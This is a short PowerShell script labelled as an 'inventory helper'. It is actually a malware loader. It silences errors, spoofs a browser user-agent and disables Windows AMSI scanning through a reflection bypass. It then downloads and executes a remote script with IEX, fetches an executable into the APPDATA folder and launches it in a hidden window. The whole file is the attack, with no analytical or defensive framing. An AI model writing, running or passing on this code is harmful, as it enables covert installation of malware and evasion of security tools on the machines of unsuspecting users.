<#  inventory helper v2  #>
$ErrorActionPreference = 'SilentlyContinue'
[Net.ServicePointManager]::SecurityProtocol = [Net.SecurityProtocolType]::Tls12
$base = 'https://cdn-update.example.net'
$wc = New-Object -TypeName System.Net.WebClient
$wc.Headers['User-Agent'] = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)'
$wc.Proxy.Credentials = [Net.CredentialCache]::DefaultNetworkCredentials

[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed', 'NonPublic,Static').SetValue($null, $true)

IEX $wc.DownloadString("$base/inv.ps1")
$wc.DownloadFile("$base/svc.exe", "$env:APPDATA\svc.exe")
Start-Process -FilePath $env:APPDATA\svc.exe -WindowStyle Hidden
